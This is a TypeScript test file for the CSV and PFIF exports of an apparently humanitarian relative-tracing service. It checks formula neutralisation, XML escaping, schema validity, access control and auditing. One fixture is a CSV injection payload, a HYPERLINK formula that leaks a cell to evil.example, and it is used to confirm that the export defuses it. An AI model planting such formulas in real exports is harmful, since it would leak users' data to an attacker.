import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import { XMLParser } from 'fast-xml-parser'
import t from 'tap'
import { validateXML } from 'xmllint-wasm'
import { CSV_COLUMNS, CSV_PERSONAL_COLUMNS, neutraliseFormula } from '../../src/services/csv-export.js'
import { pfifDate, pfifDomain, xmlEscape } from '../../src/services/pfif.js'
import { coordinator, volunteer } from '../accounts-helper.js'
import { build, logCollector, requestBody } from '../helper.js'

// One file for both exports (past 400 lines on purpose): they are checked against the same seeded
// requests, outcomes and audit trail, in one schema.
const logs = logCollector()
const { app } = await build(t, { LOG_LEVEL: 'info' }, { logStream: logs.stream })
const boss = await coordinator(app)
const XSD = await readFile(new URL('../fixtures/pfif/pfif-1.4.xsd', import.meta.url), 'utf8')

type Row = Record<string, string>

async function create(overrides: Parameters<typeof requestBody>[0] = {}) {
  const body = requestBody(overrides)
  const res = await app.inject({ method: 'POST', url: '/api/v1/requests', payload: body })
  if (res.statusCode !== 201) throw new Error(`intake failed: ${res.body}`)
  return { body, reference: res.json().reference as string }
}

/** Records an outcome as the tasks service does: an `outcome` event, then the request moves on. */
async function recordOutcome(reference: string, outcome: string, status: string) {
  const { rows } = await app.db.query(
    `INSERT INTO request_events (request_id, type, from_status, to_status, actor_type, data)
     SELECT id, 'outcome', 'claimed', $3, 'volunteer', jsonb_build_object('outcome', $2::text)
     FROM requests WHERE reference = $1 RETURNING id::text`,
    [reference, outcome, status],
  )
  await app.db.query(
    `UPDATE requests SET status = $2, attempts = attempts + 1, updated_at = now(),
       closed_at = CASE WHEN $2 IN ('queued', 'claimed') THEN NULL ELSE now() END
     WHERE reference = $1`,
    [reference, status],
  )
  return rows[0].id as string
}

function get(url: string, headers: Record<string, string> = boss.headers) {
  return app.inject({ method: 'GET', url, headers })
}

function csv(body: string): Row[] {
  return parse(body, { columns: true, bom: true, skip_empty_lines: true })
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

// A: reached safe; its notes are a formula. B: no answer, then reached needing help. C: wrong
// number, in a place outside the city list. D: unreachable, with a name XML must escape.
// E: waiting, with a second requester who gave another name. F: cancelled. G: purged.
const a = await create({
  requester: { name: 'Айгуль Серикова' },
  relative: { name: 'Сауле Нурланова', address: 'Абая 150, кв 7', notes: HYPERLINK, altPhone: '8 702 111 22 33' },
})
const b = await create({ requester: { name: 'Ерлан', language: 'ru' }, relative: { name: 'Бахыт Оспанов', city: 'Астана' } })
const c = await create({ requester: { name: 'Dana', language: 'en' }, relative: { name: 'Marat Ospan', city: '@Каменка' } })
const d = await create({ relative: { name: `Ержан "Еркош" <O'Neil> & Co` }, flags: { medical: true } })
const e = await create({ relative: { name: 'Гульнара Ахметова', notes: '+ принимает лекарства' } })
const eLinked = requestBody({ requester: { name: 'Асель' }, relative: { name: 'Гуля Ахметова', phone: e.body.relative.phone } })
await app.inject({ method: 'POST', url: '/api/v1/requests', payload: eLinked })
const f = await create({ relative: { name: 'Отменённая Персона' } })
const g = await create({ relative: { name: 'Удалённая Персона' } })

const events = {
  a: await recordOutcome(a.reference, 'reached_safe', 'reached_safe'),
  bNoAnswer: await recordOutcome(b.reference, 'no_answer', 'queued'),
  bHelp: await recordOutcome(b.reference, 'reached_needs_help', 'reached_needs_help'),
  c: await recordOutcome(c.reference, 'wrong_number', 'wrong_number'),
  d: await recordOutcome(d.reference, 'unreachable', 'unreachable'),
}
await app.db.query(`UPDATE requests SET status = 'cancelled', closed_at = now() WHERE reference = $1`, [f.reference])
await app.db.query(
  `UPDATE requests SET status = 'reached_safe', closed_at = now() - interval '40 days', purged_at = now(),
     requester_name = NULL, requester_phone = NULL, relative_name = NULL, relative_phone = NULL,
     relative_alt_phone = NULL, relative_city = NULL, relative_address = NULL, relative_notes = NULL
   WHERE reference = $1`,
  [g.reference],
)

/** Every name, phone, address and note the seeded requests hold. */
const personal = [a, b, c, d, e, f, g]
  .flatMap(({ body }) => [body.requester.name, body.requester.phone, body.relative.name, body.relative.phone])
  .concat([eLinked.requester.name, eLinked.requester.phone, eLinked.relative.name])
  .concat(['+77021112233', 'Абая 150', 'HYPERLINK', 'принимает', 'Каменка', 'каменка'])

t.test('formulas, XML text, PFIF dates and domains', async (t) => {
  const formulas: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['+7 701', "'+7 701"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Сауле', 'Сауле'],
    ['a=1', 'a=1'],
    ['', ''],
  ]
  for (const [input, output] of formulas) t.equal(neutraliseFormula(input), output, JSON.stringify(input))
  const xml: [string, string][] = [
    [`<a href="x">O'Neil & Co</a>`, '&lt;a href=&quot;x&quot;&gt;O&apos;Neil &amp; Co&lt;/a&gt;'],
    ['bell\u0007 and null\u0000', 'bell and null'],
    ['line\nbreak\ttab', 'line\nbreak\ttab'],
    ['lone \uD800 surrogate, pair \u{1F600}', 'lone  surrogate, pair \u{1F600}'],
    ['\uFFFE\uFFFF', ''],
  ]
  for (const [input, output] of xml) t.equal(xmlEscape(input), output, JSON.stringify(input))
  t.equal(pfifDate(new Date('2022-01-05T10:11:12.999+06:00')), '2022-01-05T04:11:12Z')
  t.equal(pfifDomain('https://bailanys.example.org:8443/base'), 'bailanys.example.org')
})

t.test('the CSV has one row per request, matching the database, without personal data', async (t) => {
  const res = await get('/api/v1/export/requests.csv')
  t.equal(res.statusCode, 200)
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8')
  t.match(res.headers['content-disposition'], /^attachment; filename="bailanys-requests-\d{4}-\d{2}-\d{2}\.csv"$/)
  t.equal(res.headers['cache-control'], 'no-store')
  t.ok(res.body.startsWith('\uFEFFreference,status,'), 'a BOM, then the header')

  const rows = csv(res.body)
  t.same(Object.keys(rows[0] ?? {}), [...CSV_COLUMNS], 'exactly the non-personal columns')
  const db = await app.db.query(
    `SELECT r.*, (SELECT count(*)::int FROM request_requesters q WHERE q.request_id = r.id) AS requesters,
       (SELECT data->>'outcome' FROM request_events e WHERE e.request_id = r.id AND e.type = 'outcome'
        ORDER BY e.id DESC LIMIT 1) AS latest_outcome
     FROM requests r ORDER BY r.id`,
  )
  t.equal(rows.length, db.rows.length, 'every request')
  for (const [i, r] of db.rows.entries()) {
    const row = rows[i] as Row
    t.same(
      row,
      {
        reference: r.reference,
        status: r.status,
        source: r.source,
        requester_language: r.requester_language,
        notify_via: r.notify_via,
        city_key: r.reference === c.reference ? 'other' : r.city_key,
        elderly: String(r.flag_elderly),
        medical: String(r.flag_medical),
        children: String(r.flag_children),
        disability: String(r.flag_disability),
        priority: String(r.priority),
        attempts: String(r.attempts),
        requesters: String(r.requesters),
        created_at: r.created_at.toISOString(),
        updated_at: r.updated_at.toISOString(),
        closed_at: r.closed_at ? r.closed_at.toISOString() : '',
        latest_outcome: r.latest_outcome ?? '',
      },
      `row of ${r.reference}`,
    )
  }
  const byRef = new Map(rows.map((row) => [row.reference, row]))
  t.match(byRef.get(a.reference), { status: 'reached_safe', latest_outcome: 'reached_safe', attempts: '1', city_key: 'almaty' })
  t.match(byRef.get(b.reference), { status: 'reached_needs_help', latest_outcome: 'reached_needs_help', attempts: '2' })
  t.match(byRef.get(c.reference), { latest_outcome: 'wrong_number', city_key: 'other' }, 'a place outside the list is not named')
  t.match(byRef.get(d.reference), { latest_outcome: 'unreachable', medical: 'true' })
  t.match(byRef.get(e.reference), { status: 'received', latest_outcome: '', requesters: '2', closed_at: '' })
  t.match(byRef.get(f.reference), { status: 'cancelled' })
  for (const secret of personal) t.notOk(res.body.includes(secret), `no ${secret} in the CSV`)
})

t.test('personal=true adds the personal columns, with formulas neutralised', async (t) => {
  const res = await get('/api/v1/export/requests.csv?personal=true')
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-disposition'], /filename="bailanys-requests-personal-\d{4}-\d{2}-\d{2}\.csv"/)
  const rows = csv(res.body)
  t.same(Object.keys(rows[0] ?? {}), [...CSV_COLUMNS, ...CSV_PERSONAL_COLUMNS])
  const byRef = new Map(rows.map((row) => [row.reference, row]))
  t.match(byRef.get(a.reference), {
    requester_name: 'Айгуль Серикова',
    requester_phone: a.body.requester.phone,
    relative_name: 'Сауле Нурланова',
    relative_phone: a.body.relative.phone,
    relative_alt_phone: '+77021112233',
    relative_city: 'Алматы',
    relative_address: 'Абая 150, кв 7',
    relative_notes: `'${HYPERLINK}`,
  })
  t.ok(a.body.requester.phone.startsWith('+'), 'phones keep their + (E.164, no formula possible)')
  t.match(byRef.get(c.reference), { relative_city: "'@Каменка", city_key: "'@каменка" }, 'free text starting with @')
  t.match(byRef.get(e.reference), {
    relative_other_names: 'Гуля Ахметова',
    relative_notes: "'+ принимает лекарства",
  })
  t.match(byRef.get(g.reference), { relative_name: '', requester_phone: '', relative_notes: '' }, 'purged stays purged')
})

t.test('the CSV filters by status and creation time', async (t) => {
  const safe = csv((await get('/api/v1/export/requests.csv?status=reached_safe')).body)
  t.same(safe.map((r) => r.reference).sort(), [a.reference, g.reference].sort())
  const future = await get(`/api/v1/export/requests.csv?since=${new Date(Date.now() + 86_400_000).toISOString()}`)
  t.equal(future.statusCode, 200)
  t.same(csv(future.body), [], 'nothing created since tomorrow')
  t.match(future.body, /^\uFEFFreference,status,/, 'the header even without rows')
  const all = csv((await get('/api/v1/export/requests.csv?since=2022-01-05&status=received')).body)
  t.same(
    all.map((r) => r.reference),
    [e.reference],
  )
})

t.test('bad query values are 400 problems', async (t) => {
  const cases: [string, string[]][] = [
    ['/api/v1/export/requests.csv?personal=yes', ['personal']],
    ['/api/v1/export/requests.csv?status=fine', ['status']],
    ['/api/v1/export/requests.csv?since=yesterday', ['since']],
    ['/api/v1/export/requests.csv?since=2022-13-45', ['since']],
    ['/api/v1/export/requests.csv?persona=true', ['persona']],
    ['/api/v1/export/pfif?personal=true', ['personal']],
    ['/api/v1/export/pfif?status=cancelled', ['status']],
    ['/api/v1/export/pfif?since=1641340800', ['since']],
  ]
  for (const [url, paths] of cases) {
    const res = await get(url)
    t.equal(res.statusCode, 400, url)
    t.equal(res.headers['content-type'], 'application/problem+json; charset=utf-8', `${url}: problem+json`)
    t.equal(res.json().code, 'APP_ERR_VALIDATION', `${url}: code`)
    t.same(
      res.json().errors.map((e: { path: string }) => e.path),
      paths,
      `${url}: paths`,
    )
  }
})

t.test('only coordinators export', async (t) => {
  const vera = await volunteer(app, boss)
  for (const url of ['/api/v1/export/requests.csv', '/api/v1/export/pfif']) {
    const anonymous = await get(url, {})
    t.equal(anonymous.statusCode, 401, `${url} without a token`)
    t.equal(anonymous.json().code, 'APP_ERR_UNAUTHENTICATED')
    const forbidden = await get(url, vera.headers)
    t.equal(forbidden.statusCode, 403, `${url} as a volunteer`)
    t.equal(forbidden.json().code, 'APP_ERR_FORBIDDEN')
    t.notMatch(forbidden.body, a.reference)
  }
  const { rows } = await app.db.query(`SELECT count(*)::int AS n FROM audit_events WHERE account_id = $1`, [vera.id])
  t.equal(rows[0].n, 0, 'a refused export is not an export')
})

async function validPfif(xml: string) {
  return validateXML({ xml: [{ fileName: 'export.xml', contents: xml }], schema: [XSD] })
}

const parser = new XMLParser({
  parseTagValue: false,
  trimValues: false,
  isArray: (name) => name === 'pfif:person' || name === 'pfif:note',
})
type Note = Record<string, string>
type Person = Record<string, string> & { 'pfif:note': Note[] }

t.test('PFIF validates against the PFIF 1.4 schema and round-trips', async (t) => {
  const res = await get('/api/v1/export/pfif')
  t.equal(res.statusCode, 200)
  t.equal(res.headers['content-type'], 'application/xml; charset=utf-8')
  t.match(res.headers['content-disposition'], /^attachment; filename="bailanys-pfif-\d{4}-\d{2}-\d{2}\.xml"$/)
  t.equal(res.headers['cache-control'], 'no-store')
  const result = await validPfif(res.body)
  t.ok(result.valid, 'valid PFIF 1.4')
  t.same(result.errors, [])

  const doc = parser.parse(res.body)
  t.match(res.body, '<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">')
  const persons: Person[] = doc['pfif:pfif']['pfif:person']
  const id = (ref: string) => `localhost/request.${ref}`
  t.same(
    persons.map((p) => p['pfif:person_record_id']),
    [a, b, c, d, e].map((r) => id(r.reference)),
    'one person per request; cancelled and purged ones are not shared',
  )
  const person = (ref: string) => persons.find((p) => p['pfif:person_record_id'] === id(ref)) as Person
  t.match(person(a.reference), {
    'pfif:author_name': 'Bailanys',
    'pfif:source_name': 'Bailanys',
    'pfif:full_name': 'Сауле Нурланова',
    'pfif:home_city': 'Алматы',
    'pfif:source_date': /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/,
    'pfif:expiry_date': /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/,
  })
  t.equal(person(e.reference)['pfif:alternate_names'], 'Гуля Ахметова')
  t.notOk('pfif:expiry_date' in person(e.reference), 'an open request has no expiry yet')
  t.equal(person(d.reference)['pfif:full_name'], `Ержан "Еркош" <O'Neil> & Co`, 'escaped and read back')

  const notes = (ref: string) =>
    person(ref)['pfif:note'].map((n) => ({
      id: n['pfif:note_record_id'],
      author: n['pfif:author_name'],
      contact: n['pfif:author_made_contact'],
      status: n['pfif:status'],
      person: n['pfif:person_record_id'],
    }))
  const sought = (ref: string, author: string) => ({
    id: `localhost/note.request.${ref}`,
    author,
    contact: 'false',
    status: 'information_sought',
    person: id(ref),
  })
  const outcome = (ref: string, event: string, status: string, contact: boolean) => ({
    id: `localhost/note.${event}`,
    author: 'Bailanys',
    contact: String(contact),
    status,
    person: id(ref),
  })
  for (const name of ['Айгуль', 'Ерлан', 'Dana'])
    t.notMatch(res.body, name, `the requester's name (${name}) never leaves in PFIF`)
  t.same(notes(a.reference), [sought(a.reference, 'Bailanys'), outcome(a.reference, events.a, 'believed_alive', true)])
  t.same(notes(b.reference), [
    sought(b.reference, 'Bailanys'),
    outcome(b.reference, events.bNoAnswer, 'information_sought', false),
    outcome(b.reference, events.bHelp, 'believed_alive', true),
  ])
  t.same(notes(c.reference), [sought(c.reference, 'Bailanys'), outcome(c.reference, events.c, 'information_sought', false)])
  t.same(notes(d.reference), [sought(d.reference, 'Bailanys'), outcome(d.reference, events.d, 'information_sought', false)])
  t.same(notes(e.reference), [sought(e.reference, 'Bailanys')])
  for (const n of persons.flatMap((p) => p['pfif:note'])) t.match(n['pfif:text'], /^[A-Za-z ,.;']+$/, 'plain English')

  const { rows } = await app.db.query('SELECT created_at FROM request_events WHERE id = $1', [events.a])
  const note = person(a.reference)['pfif:note'][1] as Note
  t.equal(note['pfif:source_date'], `${rows[0].created_at.toISOString().slice(0, 19)}Z`, 'the outcome time, in UTC')

  for (const secret of [
    a.body.relative.phone,
    a.body.requester.phone,
    '+77021112233',
    'Абая',
    'HYPERLINK',
    'принимает',
    'Серикова',
  ]) {
    t.notOk(res.body.includes(secret), `no ${secret} in PFIF`)
  }
})

t.test('the schema refuses PFIF that breaks it', async (t) => {
  const xml = (await get('/api/v1/export/pfif')).body
  const broken: [string, string, RegExp][] = [
    [
      'a status PFIF does not know',
      xml.replace('<pfif:status>believed_alive</pfif:status>', '<pfif:status>fine</pfif:status>'),
      /status.*'fine' is not an element of the set/,
    ],
    ['a date with an offset', xml.replace(/(<pfif:source_date>[^<]+)Z</, '$1+06:00<'), /source_date.*pattern/],
    ['a note without text', xml.replace(/<pfif:text>[^<]*<\/pfif:text>/, ''), /Missing child element.*text/],
    ['a person without a name', xml.replace(/<pfif:full_name>[^<]*<\/pfif:full_name>/, ''), /full_name/],
    [
      'fields out of order',
      xml.replace(/(<pfif:author_name>Bailanys<\/pfif:author_name>\n\s*)(<pfif:source_name>[^<]*<\/pfif:source_name>)/, '$2$1'),
      /author_name': This element is not expected/,
    ],
    ['another namespace', xml.replace('http://zesty.ca/pfif/1.4', 'http://zesty.ca/pfif/1.3'), /No matching global declaration/],
    [
      'contact as yes',
      xml.replace('<pfif:author_made_contact>true<', '<pfif:author_made_contact>yes<'),
      /author_made_contact.*'yes'/,
    ],
  ]
  for (const [what, doc, error] of broken) {
    t.not(doc, xml, `${what}: the document was changed`)
    const result = await validPfif(doc)
    t.notOk(result.valid, what)
    t.match(result.errors.map((e) => e.message).join('\n'), error, `${what}: the error says why`)
  }
  const fine = await validPfif(
    xml.replace('<pfif:status>believed_alive</pfif:status>', '<pfif:status>believed_missing</pfif:status>'),
  )
  t.ok(fine.valid, 'another status PFIF knows is fine')
})

t.test('PFIF filters by status and creation time', async (t) => {
  const doc = parser.parse((await get('/api/v1/export/pfif?status=wrong_number')).body)
  t.same(
    doc['pfif:pfif']['pfif:person'].map((p: Person) => p['pfif:person_record_id']),
    [`localhost/request.${c.reference}`],
  )
  const empty = await get(`/api/v1/export/pfif?since=${new Date(Date.now() + 86_400_000).toISOString()}`)
  t.ok((await validPfif(empty.body)).valid, 'an empty document is valid too')
  t.notMatch(empty.body, '<pfif:person>')
})

t.test('every export is an audit event, and nothing personal reaches the log', async (t) => {
  await get('/api/v1/export/requests.csv?personal=true&status=received&since=2022-01-05')
  await get('/api/v1/export/pfif?status=wrong_number')
  const { rows } = await app.db.query(
    `SELECT action, data FROM audit_events WHERE account_id = $1 AND action LIKE 'export.%' ORDER BY id`,
    [boss.id],
  )
  const csvExports = rows.filter((r) => r.action === 'export.csv')
  const pfifExports = rows.filter((r) => r.action === 'export.pfif')
  t.equal(csvExports.length, 6, 'each CSV export (the refused ones are not)')
  t.equal(pfifExports.length, 5, 'each PFIF export')
  t.same(csvExports.at(-1)?.data, { personal: true, status: 'received', since: '2022-01-05T00:00:00.000Z' })
  t.same(csvExports[0]?.data, { personal: false, status: null, since: null })
  t.same(pfifExports.at(-1)?.data, { status: 'wrong_number', since: null })
  const text = logs.text()
  t.match(text, 'csv export')
  for (const secret of personal) t.notOk(text.includes(secret), `no ${secret} in the log`)
})

t.test('a large export streams every request, batch after batch', async (t) => {
  const { app } = await build(t)
  const boss = await coordinator(app)
  const n = 2500
  await app.db.query(
    `INSERT INTO requests (reference, requester_name, requester_phone, requester_language, notify_via, relative_name,
       relative_phone, relative_city, city_key, priority, status, closed_at)
     SELECT 'BULK' || lpad(i::text, 6, '0'), 'Requester ' || i, '+7701' || lpad(i::text, 7, '0'), 'ru', 'sms',
       'Relative ' || i, '+7702' || lpad(i::text, 7, '0'), 'Алматы', 'almaty', 10,
       CASE WHEN i % 2 = 0 THEN 'reached_safe' ELSE 'queued' END, CASE WHEN i % 2 = 0 THEN now() END
     FROM generate_series(1, $1::int) i`,
    [n],
  )
  await app.db.query(
    `INSERT INTO request_events (request_id, type, to_status, actor_type, data)
     SELECT id, 'outcome', 'reached_safe', 'volunteer', '{"outcome":"reached_safe"}' FROM requests WHERE status = 'reached_safe'`,
  )
  const res = await app.inject({ method: 'GET', url: '/api/v1/export/requests.csv', headers: boss.headers })
  t.equal(res.statusCode, 200)
  const rows = csv(res.body)
  t.equal(rows.length, n, 'all of them')
  t.equal(new Set(rows.map((r) => r.reference)).size, n, 'each once')
  t.same(
    rows.map((r) => r.reference),
    Array.from({ length: n }, (_, i) => `BULK${String(i + 1).padStart(6, '0')}`),
    'in order',
  )
  t.equal(rows.filter((r) => r.latest_outcome === 'reached_safe').length, n / 2)

  const pfif = await app.inject({ method: 'GET', url: '/api/v1/export/pfif', headers: boss.headers })
  const persons: Person[] = parser.parse(pfif.body)['pfif:pfif']['pfif:person']
  t.equal(persons.length, n)
  t.equal(persons.flatMap((p) => p['pfif:note']).length, n + n / 2, 'one note per request and per outcome')
  t.ok((await validPfif(pfif.body)).valid, 'still valid PFIF')
})
